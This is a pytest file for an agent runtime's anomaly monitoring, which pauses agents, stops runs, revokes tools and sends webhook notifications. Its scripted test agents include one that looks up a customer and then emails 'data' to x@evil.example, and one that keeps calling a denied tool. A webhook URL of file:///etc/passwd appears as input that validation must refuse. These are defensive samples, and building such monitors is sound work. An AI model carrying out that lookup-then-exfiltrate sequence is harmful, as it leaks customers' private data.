"""Anomaly rules fire playbooks: pause the agent, stop the run, revoke the tool, notify."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from pydantic import ValidationError

from charter import Charter, Journal, Runner, tool
from charter.runtime import Controls
from charter.runtime._anomaly import AnomalyWatch, completes_sequence
from charter.runtime._outbox import MAX_ATTEMPTS, Outbox
from charter.testing import ScriptedReasoner, call, make_agent, record_kinds, respond

effects: list[str] = []


@tool
def lookup_customer(customer_id: int) -> dict[str, str]:
    """Look up a customer."""
    return {"email": f"c{customer_id}@example.com"}


@tool(side_effect="external", targets=("to",))
def send_email(to: str, body: str) -> str:
    """Send an email."""
    effects.append(f"email {to}")
    return "sent"


@tool(side_effect="write")
def refund_order(order_id: int) -> str:
    """Refund an order."""
    effects.append(f"refund {order_id}")
    return "refunded"


TOOLS = [lookup_customer, send_email, refund_order]


@pytest.fixture(autouse=True)
def _reset() -> None:
    effects.clear()


@pytest.fixture
def journal(tmp_path: Path) -> Journal:
    return Journal(f"sqlite:///{tmp_path / 'journal.db'}")


@pytest.fixture
def runner(journal: Journal) -> Iterator[Runner]:
    r = Runner(journal)
    yield r
    r.close()


def charter(*anomalies: dict[str, Any], **extra: Any) -> Charter:
    return Charter.model_validate({"name": "watched", "anomalies": list(anomalies)} | extra)


def test_a_tool_rate_anomaly_pauses_the_agent_before_the_extra_call(
    runner: Runner, journal: Journal
) -> None:
    rule = {
        "id": "refund-burst",
        "kind": "tool_rate",
        "tools": ["refund_*"],
        "max_calls": 2,
        "per_seconds": 3600,
        "playbook": ["pause_agent", "notify"],
    }
    script = [call("refund_order", order_id=n) for n in (1, 2, 3, 4)] + [respond("done")]
    agent = make_agent(TOOLS, ScriptedReasoner(script), charter=charter(rule))

    run = runner.run(agent, "refund everything")

    assert effects == ["refund 1", "refund 2"]
    assert run.status == "stopped" and "anomaly refund-burst" in str(run.error)
    assert Controls(journal).state().pause_reason("test-agent") is not None
    detected = [r.payload for r in journal.records(run.run_id) if r.kind == "anomaly.detected"]
    assert [(d["rule"], d["step"], d["tool"]) for d in detected] == [
        ("refund-burst", 3, "refund_order")
    ]
    (queued,) = journal.records_of_kind("notify.queued")
    assert "refund-burst" in queued.payload["message"] and queued.payload["webhook_url"] is None
    second = runner.run(agent, "refund again")
    assert second.status == "stopped" and effects == ["refund 1", "refund 2"]
    assert journal.verify().ok


def test_tool_rate_counts_across_runs_of_one_agent(runner: Runner) -> None:
    rule = {
        "id": "burst",
        "kind": "tool_rate",
        "tools": ["refund_order"],
        "max_calls": 1,
        "per_seconds": 3600,
        "playbook": ["stop_run"],
    }
    agent = make_agent(TOOLS, ScriptedReasoner([]), charter=charter(rule))
    outcomes: list[str] = []
    for order in (1, 2):
        agent.reasoner = ScriptedReasoner([call("refund_order", order_id=order), respond("ok")])
        outcomes.append(runner.run(agent, "refund").status)

    assert outcomes == ["completed", "stopped"]
    assert effects == ["refund 1"]


def test_a_sequence_anomaly_stops_the_run_before_the_last_call(
    runner: Runner, journal: Journal
) -> None:
    rule = {
        "id": "read-then-mail",
        "kind": "sequence",
        "sequence": ["lookup_*", "send_email"],
        "playbook": ["stop_run"],
    }
    script = [
        call("lookup_customer", customer_id=1),
        call("refund_order", order_id=9),
        call("send_email", to="x@evil.example", body="data"),
        respond("sent"),
    ]
    agent = make_agent(TOOLS, ScriptedReasoner(script), charter=charter(rule))

    run = runner.run(agent, "help")

    assert effects == ["refund 9"]
    assert (
        run.status == "stopped" and run.error is not None and "lookup_* → send_email" in run.error
    )
    last = run.steps[-1].observation
    assert last is not None and "(rule anomaly.read-then-mail)" in last.content
    assert Controls(journal).state().paused == {}  # stop_run stops this run only


def test_repeated_denials_revoke_the_tool_for_the_agent(runner: Runner, journal: Journal) -> None:
    rule = {
        "id": "probing",
        "kind": "repeated_denials",
        "max_denials": 2,
        "per_seconds": 600,
        "playbook": ["revoke_tool", "notify"],
    }
    script = [call("send_email", to=f"a{n}@x.example", body="hi") for n in (1, 2)] + [
        respond("gave up")
    ]
    agent = make_agent(
        TOOLS, ScriptedReasoner(script), charter=charter(rule, tools={"deny": ["send_email"]})
    )

    run = runner.run(agent, "mail people")

    assert effects == [] and run.status == "completed"
    state = Controls(journal).state()
    assert state.revocation("send_email", "test-agent") is not None
    assert state.revocation("send_email", "other-agent") is None
    kinds = record_kinds(journal, run.run_id)
    assert kinds.count("anomaly.detected") == 1


def test_a_notify_only_playbook_lets_the_call_run(runner: Runner, journal: Journal) -> None:
    rule = {
        "id": "any-refund",
        "kind": "tool_rate",
        "tools": ["refund_order"],
        "max_calls": 1,
        "per_seconds": 60,
        "playbook": ["notify"],
    }
    script = [call("refund_order", order_id=n) for n in (1, 2)] + [respond("ok")]
    agent = make_agent(TOOLS, ScriptedReasoner(script), charter=charter(rule))

    run = runner.run(agent, "refund two")

    assert (run.status, effects) == ("completed", ["refund 1", "refund 2"])
    assert len(journal.records_of_kind("notify.queued")) == 1


class _Hook(BaseHTTPRequestHandler):
    received: ClassVar[list[tuple[dict[str, Any], str]]] = []
    status = 204

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        type(self).received.append((json.loads(body), self.headers["X-Charter-Notification"]))
        self.send_response(type(self).status)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def webhook() -> Iterator[str]:
    _Hook.received, _Hook.status = [], 204
    server = HTTPServer(("127.0.0.1", 0), _Hook)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/hook"
    server.shutdown()
    server.server_close()


def test_notifications_are_posted_to_the_webhook_and_journaled(
    journal: Journal, webhook: str
) -> None:
    rule = {
        "id": "burst",
        "kind": "tool_rate",
        "tools": ["refund_order"],
        "max_calls": 1,
        "per_seconds": 60,
        "playbook": ["stop_run", "notify"],
    }
    script = [call("refund_order", order_id=n) for n in (1, 2)] + [respond("ok")]
    agent = make_agent(
        TOOLS,
        ScriptedReasoner(script),
        charter=charter(rule, notifications={"webhook_url": webhook}),
    )
    runner = Runner(journal)
    run = runner.run(agent, "refund two")
    runner.close()  # waits for the background delivery

    ((body, header),) = _Hook.received
    assert body["rule"] == "burst" and body["run_id"] == run.run_id
    assert header == body["notification_id"]
    (delivered,) = journal.records_of_kind("notify.delivered")
    assert delivered.payload["notification_id"] == body["notification_id"]
    assert [m["status"] for m in Outbox(journal).messages()] == ["delivered"]


def test_failed_deliveries_are_journaled_and_retried_then_given_up(
    journal: Journal, webhook: str
) -> None:
    _Hook.status = 500
    journal.append(
        [
            (
                "outbox",
                "notify.queued",
                {
                    "notification_id": "ntf-1",
                    "rule": "r",
                    "agent": "a",
                    "run_id": "x",
                    "message": "m",
                    "webhook_url": webhook,
                    "timeout_seconds": 2,
                },
            )
        ]
    )
    outbox = Outbox(journal)

    results = [outbox.deliver() for _ in range(MAX_ATTEMPTS + 1)]

    assert [len(r) for r in results] == [1] * MAX_ATTEMPTS + [0]
    assert not results[0][0].ok and "500" in results[0][0].detail
    assert len(_Hook.received) == MAX_ATTEMPTS
    assert [m["status"] for m in outbox.messages()] == ["failed"]


def test_an_unreachable_webhook_does_not_break_the_run(journal: Journal) -> None:
    rule = {
        "id": "burst",
        "kind": "tool_rate",
        "tools": ["refund_order"],
        "max_calls": 1,
        "per_seconds": 60,
        "playbook": ["notify"],
    }
    script = [call("refund_order", order_id=n) for n in (1, 2)] + [respond("ok")]
    hook = {"webhook_url": "http://127.0.0.1:9/unreachable", "timeout_seconds": 1}
    agent = make_agent(TOOLS, ScriptedReasoner(script), charter=charter(rule, notifications=hook))
    runner = Runner(journal)

    run = runner.run(agent, "refund two")
    runner.close()

    assert run.status == "completed"
    (failed,) = journal.records_of_kind("notify.failed")
    assert "Error" in failed.payload["detail"]
    assert [m["status"] for m in Outbox(journal).messages()] == ["pending"]


def test_completes_sequence_needs_the_order_and_the_last_tool() -> None:
    assert completes_sequence(["a", "x", "b"], "c", ["a", "b", "c"])
    assert not completes_sequence(["b", "a"], "c", ["a", "b", "c"])
    assert not completes_sequence(["a", "b"], "d", ["a", "b", "c"])


def test_windows_slide(journal: Journal) -> None:
    later = [timedelta(0)]
    watch = AnomalyWatch(journal, clock=lambda: datetime.now(UTC) + later[0])
    (rule,) = charter(
        {"id": "r", "kind": "tool_rate", "tools": ["t"], "max_calls": 1, "per_seconds": 60}
    ).anomalies
    effect = ("run", "step.effect", {"tool": "t", "agent": "a", "status": "ok"})

    first = watch.on_call("a", [rule], "t", [], set())
    journal.append([effect])
    second = watch.on_call("a", [rule], "t", [], set())
    other_agent = watch.on_call("b", [rule], "t", [], set())
    later[0] = timedelta(seconds=61)  # the call slid out of the window
    third = watch.on_call("a", [rule], "t", [], set())

    assert (first, second, other_agent, third) == ([], [rule], [], [])


def test_windows_are_shared_by_runners_on_one_journal(journal: Journal) -> None:
    rule = {
        "id": "burst",
        "kind": "tool_rate",
        "tools": ["refund_order"],
        "max_calls": 1,
        "per_seconds": 3600,
        "playbook": ["stop_run"],
    }
    agent = make_agent(TOOLS, ScriptedReasoner([]), charter=charter(rule))
    outcomes: list[str] = []
    for order in (1, 2):  # as two one-shot processes would: a fresh runner each time
        runner = Runner(journal)
        agent.reasoner = ScriptedReasoner([call("refund_order", order_id=order), respond("ok")])
        outcomes.append(runner.run(agent, "refund").status)
        runner.close()

    assert outcomes == ["completed", "stopped"] and effects == ["refund 1"]


@pytest.mark.parametrize(
    ("anomaly", "message"),
    [
        ({"id": "r", "kind": "tool_rate"}, "needs max_calls"),
        ({"id": "r", "kind": "repeated_denials"}, "needs max_denials"),
        ({"id": "r", "kind": "sequence", "sequence": ["a"]}, "at least two tools"),
        ({"id": "r", "kind": "tool_rate", "max_calls": 1, "playbook": ["explode"]}, "playbook"),
        ({"id": "r", "kind": "surprise"}, "kind"),
    ],
)
def test_bad_anomaly_rules_are_refused(anomaly: dict[str, Any], message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        charter(anomaly)


def test_anomaly_ids_are_unique_and_webhooks_are_http() -> None:
    rule = {"id": "r", "kind": "tool_rate", "max_calls": 1}
    with pytest.raises(ValidationError, match=r"anomalies\.1\.id: 'r' is used twice"):
        charter(rule, rule)
    with pytest.raises(ValidationError, match="http"):
        charter(notifications={"webhook_url": "file:///etc/passwd"})
